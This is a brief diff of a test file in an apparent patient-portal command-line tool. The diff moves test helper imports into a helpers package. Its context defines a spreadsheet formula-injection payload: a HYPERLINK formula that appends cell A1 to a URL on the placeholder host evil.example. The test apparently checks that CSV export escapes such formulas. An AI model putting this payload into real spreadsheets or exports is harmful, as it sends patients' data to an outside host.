@@ -12,9 +12,9 @@ from pathlib import Path
 import pytest
 
 from patientportal_cli.output import Output, csv_cell, spreadsheet_safe
-from tests.conftest import Cli, Staff
-from tests.test_import_support import write
-from tests.test_queue_support import register, set_mode
+from tests.helpers.cli import Cli, Staff
+from tests.helpers.csv_files import write
+from tests.helpers.people import register, set_mode
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Klik")'
 SAFE = "'" + FORMULA
